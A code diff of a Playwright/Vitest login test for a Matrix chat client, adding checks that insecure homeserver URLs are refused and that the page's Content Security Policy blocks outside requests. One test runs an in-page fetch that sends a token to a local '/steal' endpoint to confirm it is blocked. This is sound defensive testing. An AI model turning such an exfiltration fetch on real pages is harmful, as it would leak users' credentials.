@@ -1,6 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Browser, Page } from 'playwright-core';
 import { mkdtemp, rm } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 import { seedDemoProvince, type DemoAccount } from '../homeserver/seed';
@@ -126,18 +128,57 @@ describe('login (web mode, real homeserver)', () => {
     await page.context().close();
   });
 
-  it('tells a malformed URL, a non-Matrix server and an unreachable server apart', async () => {
+  it('tells a malformed URL, plain http off this machine and a foreign server apart', async () => {
     const page = await openLogin();
     const cases: Array<[string, string]> = [
       ['ftp://example', 'invalidUrl'],
-      [web.url, 'notMatrix'], // the web server answers, but it is not a homeserver
-      ['http://127.0.0.1:9', 'unreachable'], // discard port: nothing listens
+      // The password would cross the network in the clear: refused before any request is made.
+      ['http://hongyan.example.org:8008', 'insecureUrl'],
+      // The page's CSP reaches only the configured homeserver; the login says so instead of failing.
+      ['http://127.0.0.1:9', 'homeserverNotAllowed'],
     ];
+    const requested: string[] = [];
+    page.on('request', (r) => requested.push(new URL(r.url()).host));
     for (const [homeserver, kind] of cases) {
       await fillLogin(page, { homeserver, username: 'zhangwei', password: 'x' });
       await page.locator(`[data-testid="login-error"][data-error-kind="${kind}"]`).waitFor();
     }
+    expect(requested).not.toContain('hongyan.example.org:8008');
+    expect(requested).not.toContain('127.0.0.1:9');
+    await saveScreenshot(page, 'login-insecure-homeserver');
     await page.context().close();
+  });
+
+  it('lets no script in the page send data to any host but the homeserver (CSP)', async () => {
+    const received: string[] = [];
+    const sink = createServer((req, res) => {
+      received.push(req.url ?? '');
+      res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('ok');
+    });
+    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
+    const sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/steal?token=x`;
+    try {
+      const page = await openLogin();
+      const outcome = await page.evaluate(async (url) => {
+        try {
+          await fetch(url, { mode: 'no-cors' });
+          return 'sent';
+        } catch {
+          return 'blocked';
+        }
+      }, sinkUrl);
+      expect(outcome).toBe('blocked');
+      // The homeserver itself stays reachable.
+      const versions = await page.evaluate(
+        async (hsUrl) => (await fetch(`${hsUrl}/_matrix/client/versions`)).status,
+        hs.baseUrl,
+      );
+      expect(versions).toBe(200);
+      expect(received).toEqual([]);
+      await page.context().close();
+    } finally {
+      await new Promise<void>((resolve) => sink.close(() => resolve()));
+    }
   });
 
   it('says the homeserver is down when it is stopped, in English when chosen', async () => {
